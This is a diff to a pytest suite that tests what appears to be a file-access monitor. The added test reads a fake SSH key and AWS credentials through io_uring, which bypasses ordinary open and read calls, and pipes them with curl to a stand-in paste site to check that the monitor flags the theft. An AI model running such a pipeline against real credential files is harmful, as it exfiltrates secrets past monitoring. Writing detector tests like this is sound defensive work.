@@ -232,3 +232,39 @@ def test_library_reached_through_dotdot_stays_unreported(monitor, tmp_path):
     monitor.stop()
     assert not [r for r in monitor.records()
                 if get(r, "event.action") == "file-open" and get(r, "file.path") == library]
+
+
+# --- Class: every way of reading counts (io_uring) --------------------------------------------
+
+@pytest.fixture(scope="module")
+def uring_read(tmp_path_factory):
+    source = paths.TOOLS_DIR / "uring_read.c"
+    binary = tmp_path_factory.mktemp("uring_read") / "uring_read"
+    done = subprocess.run(["gcc", "-O2", "-Wall", "-o", str(binary), str(source), "-luring"],
+                          capture_output=True, text=True, timeout=120)
+    if done.returncode != 0:
+        pytest.fail(f"cannot compile {source} (liburing-dev comes with scripts/setup):\n"
+                    f"{done.stderr[-3000:]}", pytrace=False)
+    return binary
+
+
+def test_io_uring_open_and_reads(monitor, standin, fake_home, tmp_path, uring_read):
+    # Opened with IORING_OP_OPENAT (the key) and OPENAT2 (the AWS credentials), each read whole
+    # once with READ, READV, READ_FIXED and SPLICE: no open(2) or read(2) at all. The key's
+    # bytes go on to a paste site through a pipe.
+    key = key_of(fake_home)
+    aws = fake_home.files[".aws/credentials"]
+    shell = (f"{uring_read} {key} {aws} | curl -sk --resolve {PASTE}:8443:127.0.0.1 "
+             f"--data-binary @- https://{PASTE}:8443/")
+    attack(monitor, standin, fake_home, tmp_path, "io-uring", shell)
+    records = monitor.records()
+    for path in (key, aws):
+        found = opened(records, path, "uring_read")
+        assert any(not get(r, "exfilwatch.file.requested_path") for r in found)
+        size = os.stat(path).st_size
+        summaries = [r for r in records
+                     if is_action("file-summary", {"process.name": "uring_read", "file.path": str(path)})(r)]
+        assert summaries, f"no file-summary of {path}"
+        assert get(summaries[-1], "exfilwatch.file.bytes_read") == 4 * size, \
+            f"{path.name}: {get(summaries[-1], 'exfilwatch.file.bytes_read')} bytes counted, 4 x {size} read"
+    assert_no_secret(monitor, key)
